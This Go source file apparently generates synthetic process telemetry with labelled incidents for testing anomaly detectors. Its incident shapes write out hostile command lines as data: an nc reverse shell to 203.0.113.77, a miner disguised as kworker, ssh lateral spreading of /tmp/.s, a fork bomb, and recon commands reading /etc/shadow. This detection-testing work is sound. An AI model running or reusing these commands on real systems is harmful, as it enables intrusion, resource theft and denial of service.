package fleetgen

import (
	"fmt"
	"slices"
	"sort"
	"time"
)

// placer chooses where and when incidents happen, spreading them over
// different entities and days where the fleet allows.
type placer struct {
	f        *Fleet
	r        *rng
	used     map[*entity]bool
	usedDays map[int]bool
}

// day picks a day after the first two fifths of the range, so detectors have
// history to learn from, preferring days no other incident took.
func (p *placer) day(weekday bool) int {
	lo := max(1, p.f.cfg.Days*2/5)
	hi := p.f.cfg.Days - 1
	if lo > hi {
		lo = hi
	}
	var cands []int
	for d := lo; d <= hi; d++ {
		if weekday && p.f.isWeekend(d) {
			continue
		}
		if !p.usedDays[d] {
			cands = append(cands, d)
		}
	}
	if len(cands) == 0 {
		for d := lo; d <= hi; d++ {
			cands = append(cands, d)
		}
	}
	d := pick(p.r, cands)
	p.usedDays[d] = true
	return d
}

// entity picks an unused entity from the list, by preference order of the
// predicates; when all are used it reuses one.
func (p *placer) entity(list []*entity, prefs ...func(*entity) bool) *entity {
	prefs = append(prefs, func(*entity) bool { return true })
	for _, ok := range prefs {
		var cands []*entity
		for _, e := range list {
			if ok(e) && !p.used[e] && e.name != elasticHost {
				cands = append(cands, e)
			}
		}
		if len(cands) > 0 {
			e := pick(p.r, cands)
			p.used[e] = true
			return e
		}
	}
	return pick(p.r, list)
}

func role(rs ...Role) func(*entity) bool {
	return func(e *entity) bool { return slices.Contains(rs, e.role) }
}

func (f *Fleet) isWeekend(day int) bool {
	wd := time.UnixMilli(f.start + int64(day)*dayMS + 12*hourMS).UTC().Weekday()
	return wd == time.Saturday || wd == time.Sunday
}

// at is a time of day on a day of the range.
func (f *Fleet) at(day, hour, minute int) int64 {
	mid := floorDiv(f.start+int64(day)*dayMS, dayMS) * dayMS
	t := mid + int64(hour)*hourMS + int64(minute)*minuteMS
	if t < f.start+int64(day)*dayMS {
		t += dayMS
	}
	return t
}

func (f *Fleet) addLabel(l Label) int {
	f.labels = append(f.labels, l)
	return len(f.labels) - 1
}

func (f *Fleet) once(e *entity, at int64, label int, shape func(*shaper)) {
	e.acts = append(e.acts, &activity{key: "incident", sched: schedOnce, at: at, label: label, noDup: true, shape: shape})
}

func (f *Fleet) placeIncidents(r *rng) error {
	p := &placer{f: f, r: r, used: map[*entity]bool{}, usedDays: map[int]bool{}}
	root := f.user("root")
	hostLabel := func(k Kind, e *entity, detector string, exes []string, desc string) int {
		return f.addLabel(Label{Kind: k, Anomaly: k.Anomalous(), Detector: detector, Scope: string(e.scope),
			Entity: e.name, Host: e.host.name, Executables: exes, Description: desc})
	}
	for _, k := range f.kinds {
		switch k {
		case KindRareHostProcess:
			e := f.byName[elasticHost]
			d := p.day(false)
			at := f.at(d, r.between(13, 21), r.intn(60)) + int64(r.intn(60_000))
			l := hostLabel(k, e, "rare", []string{"/xxprimef"}, "the process /xxprimef runs once, as in Elastic's rare-process example")
			f.once(e, at, l, func(s *shaper) {
				s.from(dOrphaned, root)
				i := s.exec(-1, pXxprimef, 0)
				s.argv(i, "/xxprimef")
			})

		case KindCopySpree:
			e := p.entity(f.hosts, role(RoleDB), role(RoleMail, RoleWeb), role(RoleMonitor, RoleDocker, RoleBuild))
			d := p.day(true)
			at := f.at(d, r.between(9, 16), r.intn(60))
			dur := int64(r.between(15, 28)) * minuteMS
			admin := f.users[f.admins[r.intn(len(f.admins))]]
			l := hostLabel(k, e, "rate", []string{"/usr/bin/scp", "/usr/bin/ssh"},
				fmt.Sprintf("a copy spree: ssh and scp to many hosts within %d minutes, far above the host's normal rate", dur/minuteMS))
			targets := f.hosts
			f.once(e, at, l, func(s *shaper) {
				s.from(dSshd, root)
				sshd := s.exec(-1, pSshd, 0)
				s.argv(sshd, "/usr/sbin/sshd", "-D", "-R")
				sh := s.exec(sshd, pBash, s.ms(200, 600))
				s.login(sh, admin, "pts1")
				s.argv(sh, "-bash")
				t := s.sec(5, 30)
				c := s.exec(sh, pCat, t)
				s.argv(c, "cat", admin.home+"/.ssh/known_hosts")
				for k := 0; t < dur; k++ {
					tg := targets[k%len(targets)]
					t = f.scp(s, sh, t+s.ms(500, 2500), admin.name, tg.ip)
					x := s.exec(sh, pSsh, t+s.ms(200, 1500))
					s.argv(x, "ssh", "-o", "StrictHostKeyChecking=no", tg.ip, "chmod +x /tmp/.s && nohup /tmp/.s >/dev/null 2>&1 &")
					t = s.steps[x].off + s.ms(800, 4000)
				}
			})

		case KindContainerRare:
			e := p.entity(f.conts, func(e *entity) bool { return e.img == imgAPI || e.img == imgWorker }, func(e *entity) bool { return e.img == imgNginx })
			d := p.day(false)
			at := f.at(d, r.intn(24), r.intn(60))
			l := hostLabel(k, e, "rare", []string{"/tmp/.x/kworker"}, "an odd binary disguised as a kernel thread runs in a container")
			f.once(e, at, l, func(s *shaper) {
				s.from(dInit, f.user("nobody"))
				sh := s.exec(-1, e.shell, 0)
				s.argv(sh, "/bin/sh", "-c", "cd /tmp/.x && chmod +x kworker && ./kworker -B -o stratum+tcp://198.51.100.23:3333")
				s.cwd(sh, "/tmp/.x")
				ch := s.exec(sh, pChmod, s.ms(2, 8))
				s.argv(ch, "chmod", "+x", "kworker")
				kw := s.exec(sh, pKworker, s.ms(10, 30))
				s.argv(kw, "./kworker", "-B", "-o", "stratum+tcp://198.51.100.23:3333")
				if s.r.chance(0.6) {
					kw2 := s.exec(sh, pKworker, s.sec(60, 240))
					s.argv(kw2, "./kworker", "-B", "-o", "stratum+tcp://198.51.100.23:3333")
				}
			})

		case KindReverseShell:
			e := p.entity(f.hosts, role(RoleWeb), role(RoleMail, RoleDB))
			d := p.day(false)
			at := f.at(d, 3, 14) + int64(r.intn(50_000))
			l := hostLabel(k, e, "rare", []string{"/usr/bin/bash", "/usr/bin/mkfifo", "/usr/bin/nc.openbsd"},
				"a reverse shell at 03:14: bash -i piped through nc, then an intruder's first commands")
			f.once(e, at, l, func(s *shaper) {
				s.from(dApp, f.user("www-data"))
				sh := s.exec(-1, pDash, 0)
				s.argv(sh, "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc 203.0.113.77 4444 >/tmp/f")
				s.cwd(sh, "/opt/app")
				rm := s.exec(sh, pRm, 2)
				s.argv(rm, "rm", "/tmp/f")
				mk := s.exec(sh, pMkfifo, s.ms(4, 8))
				s.argv(mk, "mkfifo", "/tmp/f")
				t := s.ms(10, 14)
				c := s.exec(sh, pCat, t)
				s.argv(c, "cat", "/tmp/f")
				b := s.exec(sh, pBash, t+1)
				s.argv(b, "/bin/bash", "-i")
				n := s.exec(sh, pNc, t+2)
				s.argv(n, "nc", "203.0.113.77", "4444")
				t += s.sec(5, 40)
				for _, cmd := range [][]string{{"id"}, {"uname", "-a"}, {"ls", "-la"}, {"cat", "/etc/passwd"}, {"ps", "aux"}} {
					pr := map[string]progID{"id": pID, "uname": pUname, "ls": pLs, "cat": pCat, "ps": pPs}[cmd[0]]
					x := s.exec(b, pr, t)
					s.argv(x, cmd...)
					t += s.sec(4, 60)
				}
			})

		case KindReconBurst:
			e := p.entity(f.hosts, role(RoleWeb, RoleDB, RoleMail, RoleDocker), role(RoleMonitor))
			d := p.day(false)
			at := f.at(d, r.between(10, 21), r.intn(60))
			l := hostLabel(k, e, "rate", reconExes(), "a recon burst: whoami, id, uname, cat /etc/passwd, ps, netstat, ip a and more within minutes")
			f.once(e, at, l, func(s *shaper) { f.recon(s) })

		case KindDailyImplant:
			e := p.entity(f.hosts, role(RoleWeb, RoleDB, RoleMail, RoleDocker, RoleMonitor))
			first := f.cfg.Days / 2
			hour, minute := r.between(1, 5), r.intn(60)
			implant := pick(r, []progID{pImplant1, pImplant2, pImplant3})
			exe := programs[implant].exe
			l := hostLabel(k, e, "rare", []string{exe}, fmt.Sprintf("an implant runs every day at %02d:%02d from the middle of the range on", hour, minute))
			e.acts = append(e.acts, &activity{key: "incident", sched: schedCron, minutes: cronMinutes(minute), hours: hoursMask(hour),
				dows: allDays, jitter: 900, from: f.start + int64(first)*dayMS, label: l, noDup: true, shape: func(s *shaper) {
					s.cron(root)
					sh := s.exec(-1, pDash, s.ms(1, 5))
					s.argv(sh, "/bin/sh", "-c", exe+" >/dev/null 2>&1")
					i := s.exec(sh, implant, s.ms(3, 9))
					s.argv(i, exe)
				}})

		case KindForkStorm:
			e := p.entity(f.conts, func(e *entity) bool { return e.img != imgPostgres })
			d := p.day(false)
			at := f.at(d, r.intn(24), r.intn(60))
			dur := int64(r.between(2, 5)) * minuteMS
			n := r.between(300, 800)
			l := hostLabel(k, e, "rate", []string{programs[e.shell].exe}, fmt.Sprintf("a fork storm: %d shells in %d minutes in a container", n, dur/minuteMS))
			f.once(e, at, l, func(s *shaper) {
				s.from(dInit, root)
				top := s.exec(-1, e.shell, 0)
				s.argv(top, "/bin/sh", "-c", "while :; do sh -c 'sh -c \"sleep 0.1\" &' ; done")
				for i := 0; i < n; i++ {
					c := s.exec(top, e.shell, int64(i)*dur/int64(n)+s.ms(0, 150))
					s.argv(c, "sh", "-c", "sh -c \"sleep 0.1\" &")
				}
			})

		case KindNightRise:
			e := p.entity(f.hosts, role(RoleWeb, RoleDB, RoleMail, RoleDocker), role(RoleBastion, RoleMonitor))
			d := p.day(false)
			from := f.at(d, 21, 0)
			if from+8*hourMS > f.end {
				from = f.end - 8*hourMS
			}
			to := from + 7*hourMS
			l := hostLabel(k, e, "rate", nil, "the host's normal executions rise gently to three times their level over seven night hours")
			f.labels[l].Start, f.labels[l].End = time.UnixMilli(from).UTC(), time.UnixMilli(to).UTC()
			e.mods = append(e.mods, modulator{from: from, to: to, peak: 3, label: l})

		case KindReleaseRollout:
			f.rollout(r)
		}
	}
	for i := range f.labels {
		f.labels[i].ID = fmt.Sprintf("L%02d-%s", i+1, f.labels[i].Kind)
		if f.labels[i].Kind == KindReleaseRollout {
			f.labels[i].ID += "-" + f.labels[i].Entity
		}
	}
	return nil
}

var reconCommands = []struct {
	p    progID
	args []string
}{
	{pWhoami, []string{"whoami"}}, {pID, []string{"id"}}, {pUname, []string{"uname", "-a"}}, {pHostname, []string{"hostname"}},
	{pCat, []string{"cat", "/etc/passwd"}}, {pCat, []string{"cat", "/etc/os-release"}}, {pCat, []string{"cat", "/proc/version"}},
	{pCat, []string{"cat", "/etc/shadow"}}, {pCat, []string{"cat", "/etc/crontab"}}, {pPs, []string{"ps", "aux"}},
	{pPs, []string{"ps", "-ef", "--forest"}}, {pNetstat, []string{"netstat", "-antp"}}, {pSs, []string{"ss", "-tunap"}},
	{pIP, []string{"ip", "a"}}, {pIP, []string{"ip", "route"}}, {pW, []string{"w"}}, {pLast, []string{"last", "-n", "20"}},
	{pLs, []string{"ls", "-la", "/home"}}, {pLs, []string{"ls", "-la", "/root"}}, {pLs, []string{"ls", "-la", "/tmp"}},
	{pFind, []string{"find", "/", "-perm", "-4000", "-type", "f"}}, {pGrep, []string{"grep", "-r", "password", "/etc"}},
	{pSudo, []string{"sudo", "-l"}}, {pDf, []string{"df", "-h"}}, {pHead, []string{"head", "/etc/group"}},
}

func reconExes() []string {
	set := map[string]bool{}
	for _, c := range reconCommands {
		set[programs[c.p].exe] = true
	}
	var out []string
	for x := range set {
		out = append(out, x)
	}
	sort.Strings(out)
	return out
}

// recon is an intruder enumerating a host from a shell, quickly.
func (f *Fleet) recon(s *shaper) {
	u := f.users[f.admins[s.r.intn(len(f.admins))]]
	s.from(dSshd, f.user("root"))
	sshd := s.exec(-1, pSshd, 0)
	s.argv(sshd, "/usr/sbin/sshd", "-D", "-R")
	sh := s.exec(sshd, pBash, s.ms(200, 600))
	s.login(sh, u, "pts2")
	s.argv(sh, "-bash")
	dur := s.sec(150, 300)
	t := s.sec(2, 6)
	for k := 0; t < dur; k++ {
		c := reconCommands[s.r.intn(len(reconCommands))]
		if k < len(reconCommands) {
			c = reconCommands[k]
		}
		x := s.exec(sh, c.p, t)
		s.argv(x, c.args...)
		t += s.ms(300, 3500)
	}
}

// rollout deploys a new version of the web application to every web host
// over a few hours of one weekday: benign, yet new on every host.
func (f *Fleet) rollout(r *rng) {
	var web []*entity
	for _, e := range f.hosts {
		if e.role == RoleWeb {
			web = append(web, e)
		}
	}
	if len(web) == 0 {
		return
	}
	day := min(max(1, f.cfg.Days/3), f.cfg.Days-1)
	for d := day; d < f.cfg.Days; d++ {
		if !f.isWeekend(d) {
			day = d
			break
		}
	}
	f.releaseDay = day
	begin := f.at(day, r.between(9, 11), r.intn(60))
	span := int64(r.between(2, 4)) * hourMS
	deploy := f.user("deploy")
	for i, e := range web {
		at := begin + span*int64(i)/int64(len(web)) + int64(r.intn(600_000))
		e.releaseAt = at + 40_000
		l := f.addLabel(Label{Kind: KindReleaseRollout, Anomaly: false, Scope: "host", Entity: e.name, Host: e.name,
			Executables: []string{programs[pAppNew].exe},
			Description: "release 2.4.1 of the web application reaches this host: a new executable on every web host within hours"})
		f.once(e, at, l, func(s *shaper) {
			s.from(dSshd, f.user("root"))
			sshd := s.exec(-1, pSshd, 0)
			s.argv(sshd, "/usr/sbin/sshd", "-D", "-R")
			sh := s.exec(sshd, pDash, s.ms(300, 900))
			s.login(sh, deploy, "(none)")
			s.argv(sh, "/bin/sh", "-c", "/usr/bin/python3 /home/deploy/.ansible/tmp/ansible-tmp-1709801234.12-4711/AnsiballZ_unarchive.py && sleep 0")
			py := s.exec(sh, pPython, s.ms(905, 1000))
			s.argv(py, "/usr/bin/python3", "/home/deploy/.ansible/tmp/ansible-tmp-1709801234.12-4711/AnsiballZ_unarchive.py")
			t := s.steps[py].off + s.ms(300, 900)
			tar := s.execvp(py, pTar, t)
			s.argv(tar, "tar", "--extract", "-C", "/opt/app/releases/2.4.1", "-z", "-f", "/home/deploy/.ansible/tmp/app-2.4.1.tar.gz")
			t += s.sec(2, 8)
			su := s.exec(sshd, pDash, t)
			s.argv(su, "/bin/sh", "-c", "sudo -H -S -n  -u root /bin/sh -c 'echo BECOME-SUCCESS-kzqyv; /usr/bin/python3 /home/deploy/.ansible/tmp/AnsiballZ_file.py' && sleep 0")
			sd := s.exec(su, pSudo, t+s.ms(2, 6))
			s.argv(sd, "sudo", "-H", "-S", "-n", "-u", "root", "/bin/sh", "-c", "echo BECOME-SUCCESS-kzqyv; /usr/bin/python3 /home/deploy/.ansible/tmp/AnsiballZ_file.py")
			rs := s.exec(sd, pDash, t+s.ms(40, 120))
			s.as(rs, s.user("root"))
			s.argv(rs, "/bin/sh", "-c", "echo BECOME-SUCCESS-kzqyv; /usr/bin/python3 /home/deploy/.ansible/tmp/AnsiballZ_file.py")
			p2 := s.exec(rs, pPython, t+s.ms(125, 200))
			s.argv(p2, "/usr/bin/python3", "/home/deploy/.ansible/tmp/AnsiballZ_file.py")
			ln := s.execvp(p2, pLn, t+s.ms(500, 900))
			s.argv(ln, "ln", "-sfn", "/opt/app/releases/2.4.1/bin/app-v2.4.1", "/opt/app/bin/app")
			sc := s.execvp(p2, pSystemctl, t+s.ms(1000, 1400))
			s.argv(sc, "systemctl", "restart", "app.service")
		})
	}
}
